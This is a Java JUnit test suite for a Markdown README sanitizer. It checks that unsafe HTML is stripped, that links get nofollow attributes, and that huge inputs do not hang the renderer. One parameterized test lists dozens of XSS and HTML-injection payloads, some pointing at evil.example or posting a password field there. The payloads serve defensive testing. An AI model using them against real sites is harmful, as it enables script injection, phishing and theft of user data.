package dev.imprimatur.pages;

import static org.assertj.core.api.Assertions.assertThat;

import dev.imprimatur.npm.Readme;
import java.util.ArrayDeque;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class MarkdownTest {
  private static final Pattern TAG = Pattern.compile("<[^>]*>?");

  /** Every tag that may ever come out, to the letter. */
  private static final Pattern HARMLESS_TAG =
      Pattern.compile(
          "</?(?:p|br|hr|div|blockquote|pre|details|summary|h[3-6]|ul|ol|li|dl|dt|dd|code|kbd|samp"
              + "|var|em|strong|b|i|u|s|del|ins|sub|sup|mark|q|a|table|caption|thead|tbody|tfoot"
              + "|tr|th|td)(?: href=\"(?:https?://|mailto:)[^\"<>\\s]+\" rel=\"nofollow noopener"
              + " noreferrer\")?(?: class=\"(?:picture|scrolls)\")?(?:"
              + " (?:align=\"(?:left|center|right)\"|(?:colspan|rowspan|start)=\"[0-9]{1,3}\"))*(?:"
              + " /)?>");

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script\n>alert(1)</script\n>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "`code` <img src=x onerror=alert(1)>",
        "<img src=\"https://evil.example/x.png\" onerror=\"alert(1)\" style=\"x\" id=\"facts\">",
        "<img/src=`x`onerror=alert(1)>",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "![x](http://evil.example/plain.png)",
        "![\" onerror=\"alert(1)](https://evil.example/x.png)",
        "![x](https://evil.example/\"onerror=alert(1))",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](\u0001javascript:alert(1))",
        "[x](vbscript:x) [x](data:text/html;base64,PHNjcmlwdD4=) [x](file:///etc/passwd)",
        "[x](//evil.example) [x](/-/login) [x](../..) [x](?q) [x](#publisher)",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)> <data:text/html,x>",
        "<a href=\"javascript:alert(1)\" onclick=alert(1) target=_blank id=top class=brand>x</a>",
        "<a href=\" javascript:alert(1)\">x</a> <a href='java\tscript:alert(1)'>x</a>",
        "<a href=https://ok.example rel=opener ping=//evil.example download>x</a>",
        "<svg onload=alert(1)><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1>\">",
        "<style>body{background:url(https://evil.example)}</style>",
        "<p style=\"position:fixed;inset:0\" class=\"publisher\" id=\"publisher\">Published by"
            + " me</p>",
        "<div class=scrolls id=x name=y dir=rtl hidden>x</div>",
        "<iframe src=https://evil.example></iframe><frame src=x><object data=x><embed src=x>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<form action=https://evil.example><input name=password autofocus><button>Sign in</button>",
        "<textarea><script>alert(1)</script></textarea><select><option>x",
        "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
        "<link rel=stylesheet href=https://evil.example/x.css><title>x</title><body onload=x>",
        "<video src=https://evil.example autoplay></video><audio src=x></audio><source srcset=x>",
        "<picture><source srcset=https://evil.example/x.png><img"
            + " src=https://ok.example/x.png></picture>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<!-- --><!--><img src=x onerror=alert(1)>--> <!--[if IE]><script>x</script><![endif]-->",
        "<!-- <script>alert(1)</script> -- > text",
        "<?php echo 1 ?> <!DOCTYPE x [<!ENTITY y 'z'>]> <![CDATA[<script>alert(1)</script>]]>",
        "</div></section></main><h1>Not ours</h1><footer>",
        "</code></pre><script>alert(1)</script>",
        "<table><tr><td colspan=99999999 rowspan=-1 background=x width=9>x</td></tr></table>",
        "<details ontoggle=alert(1) open><summary onclick=x>x</summary></details>",
        "<marquee onstart=alert(1)>x</marquee><blink>x</blink><font color=red>x</font>",
        "<template><img src=x onerror=alert(1)></template><slot name=x></slot><dialog open>x",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "```html\n<script>alert(1)</script>\n```",
        "```js\" onmouseover=\"alert(1)\nx\n```",
        "<https://ok.example/\"><script>alert(1)</script>>",
        "https://ok.example/<script>alert(1)</script> www.ok.example mail@ok.example",
        "<custom-element is=x>x</custom-element> <x:y>z</x:y>",
        "<img src=\"https://ok.example/x.png\" alt=\"</a><script>alert(1)</script>\">",
        "<a href=\"https://ok.example/&quot;&gt;&lt;script&gt;\">x</a>",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
        "\u0000<script\u0000>alert(1)</script>",
        "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
      })
  void nothingHarmfulComesThrough(String markdown) {
    assertHarmless(html(markdown));
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " => ",
      value = {
        "**b** _i_ ~~s~~ `c` => <p><strong>b</strong> <em>i</em> <del>s</del> <code>c</code></p>",
        "H<sub>2</sub>O <kbd>C</kbd> => <p>H<sub>2</sub>O <kbd>C</kbd></p>",
        "# one => <h3>one</h3>",
        "## two => <h4>two</h4>",
        "###### six => <h6>six</h6>",
        "<h1 align=center>one</h1> => <h3 align=\"center\">one</h3>",
        "[x](LICENSE) => <p>x</p>",
        "[x](#usage) => <p>x</p>",
        "![A logo](logo.png) => <p>A logo</p>",
        "![](logo.png) => <p></p>",
        "<!-- a comment --> => ''",
        "x <script>alert(1)</script> y => <p>x  y</p>",
      })
  void whatAReadmeNeedsStays(String markdown, String expected) {
    assertThat(html(markdown).strip()).isEqualTo(expected);
  }

  @Test
  void linksLeadOutWithoutSayingWhereFrom() {
    assertThat(html("[x](https://ok.example/a?b=c&d=e#f) and https://ok.example/bare"))
        .isEqualToIgnoringNewLines(
            "<p><a href=\"https://ok.example/a?b&#61;c&amp;d&#61;e#f\""
                + " rel=\"nofollow noopener noreferrer\">x</a> and"
                + " <a href=\"https://ok.example/bare\" rel=\"nofollow noopener noreferrer\">"
                + "https://ok.example/bare</a></p>");
  }

  @Test
  void aPictureIsALinkToItAndIsNotLoaded() {
    assertThat(html("![A cat](https://ok.example/cat.png)"))
        .isEqualToIgnoringNewLines(
            "<p><a href=\"https://ok.example/cat.png\" rel=\"nofollow noopener noreferrer\""
                + " class=\"picture\">A cat</a></p>");
  }

  @Test
  void aPictureInALinkIsThatLinksText() {
    assertThat(html("[![build](https://ok.example/b.svg)](https://ci.example)"))
        .isEqualToIgnoringNewLines(
            "<p><a href=\"https://ci.example\" rel=\"nofollow noopener noreferrer\">build</a></p>");
  }

  @Test
  void aTableScrollsByItself() {
    assertThat(html("| a | b |\n|--:|---|\n| 1 | 2 |"))
        .startsWith("<div class=\"scrolls\"><table><thead><tr><th align=\"right\">a</th>")
        .endsWith("</table></div>\n");
  }

  @Test
  void whatIsLeftOpenIsClosedBeforeOurPageGoesOn() {
    var html = html("<div><table><tr><td><a href=https://ok.example><b>x");

    assertThat(html).endsWith("</b></a></td></tr></tbody></table></div></div>");
  }

  @Test
  void marksThatTurnTheDirectionOfTextAreTakenOut() {
    assertThat(Markdown.html(new Readme("README.md", "a\u202Eb\u2066c")).html())
        .isEqualToIgnoringNewLines("<p>abc</p>");
  }

  @Test
  void aReadmeThatIsNotMarkdownStaysAsItIs() {
    assertThat(Markdown.html(new Readme("Readme.TXT", "  # a <b>\n")).html())
        .isEqualToIgnoringNewLines("<pre><code>  # a &lt;b&gt;</code></pre>");
  }

  @ParameterizedTest
  @Timeout(value = 10, unit = TimeUnit.SECONDS)
  @ValueSource(
      strings = {
        "> ",
        "* ",
        "- > ",
        "[",
        "![",
        "[a](",
        "[a](<",
        "*a ",
        "**a ",
        "*a **b ",
        "_a_",
        "~~a ",
        "`",
        "`a``",
        "<",
        "<a ",
        "<div>",
        "<b>",
        "<table>",
        "<a href=x>",
        "</div>",
        "<!--",
        "<![CDATA[",
        "<?",
        "&",
        "&#x",
        "&amp",
        "|",
        "|a\n|-\n",
        "www.a",
        "https://a.b/(",
        "a@b.c ",
        "\\",
        "\n",
        "\t",
        "# ",
        "1. ",
        "```\n",
        "[a]: b\n",
        "[^a]",
        "\"",
        "<svg><style>",
        "<details><summary>",
        "![a][b",
      })
  void aHugeReadmeNeitherHangsNorBreaks(String piece) {
    assertHarmless(html(piece.repeat(64 * 1024 / piece.length())));
  }

  private static String html(String markdown) {
    return Markdown.html(new Readme("README.md", markdown)).html();
  }

  /** What comes out opens and closes its own tags only, or it could end ours and go on outside. */
  private static void assertHarmless(String html) {
    List<String> tags = TAG.matcher(html).results().map(MatchResult::group).toList();
    assertThat(tags.stream().distinct()).allMatch(HARMLESS_TAG.asMatchPredicate());
    var open = new ArrayDeque<String>();
    for (var tag : tags) {
      var name = tag.replaceAll("[</>]| .*", "");
      if (tag.startsWith("</")) {
        assertThat(open.poll()).isEqualTo(name);
      } else if (!name.matches("[bh]r")) {
        open.push(name);
      }
    }
    assertThat(open).isEmpty();
  }
}
